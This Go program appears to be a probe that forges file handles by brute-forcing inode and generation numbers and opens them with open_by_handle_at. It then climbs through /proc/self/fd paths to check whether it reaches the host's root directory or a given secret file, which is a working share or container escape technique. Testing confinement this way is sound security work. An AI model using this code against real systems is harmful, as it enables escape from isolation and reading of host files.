// Command handles opens, by handles it makes up, whatever a file server lets
// it open, and says where each leads that is no file of the share's.
package main

import (
	"encoding/binary"
	"fmt"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

func main() {
	dir, secret := os.Args[1], os.Args[2]
	fd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		fmt.Println(err)
		return
	}
	handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, dir+"/f", 0)
	if err != nil {
		fmt.Println("no handles:", err)
		return
	}
	opened, refused := 0, 0
	try := func(node uint64, generation uint32) {
		// 32 bits of the node each, upper ones first, and its generation.
		b := append([]byte(nil), handle.Bytes()...)
		binary.LittleEndian.PutUint32(b, uint32(node>>32))
		binary.LittleEndian.PutUint32(b[4:], uint32(node))
		binary.LittleEndian.PutUint32(b[8:], generation)
		got, err := unix.OpenByHandleAt(fd, unix.NewFileHandle(handle.Type(), b), unix.O_RDONLY|unix.O_NONBLOCK)
		if err != nil {
			refused++
			return
		}
		defer unix.Close(got)
		opened++
		look(got, secret)
	}
	first := binary.LittleEndian.Uint32(handle.Bytes()[8:])
	for node := range uint64(2000) {
		try(node, first)
		try(node, 0)
	}
	for _, node := range []uint64{1 << 31, 1 << 32, 1<<63 - 1, 1 << 63, 1<<64 - 1} {
		try(node, first)
	}
	fmt.Println("tried:", opened > 0, refused > 1000)
}

// look goes up from what was opened as far as it can.
func look(fd int, secret string) {
	path := fmt.Sprintf("/proc/self/fd/%d", fd)
	for range 6 {
		entries, _ := os.ReadDir(path)
		for _, e := range entries {
			if e.Name() == "usr" || e.Name() == "boot" {
				fmt.Println("the host's top, by", path)
			}
		}
		if _, err := os.Stat(path + secret); err == nil {
			fmt.Println("the secret, by", path)
		}
		path += "/.."
		if strings.Count(path, "..") > 5 {
			return
		}
	}
}
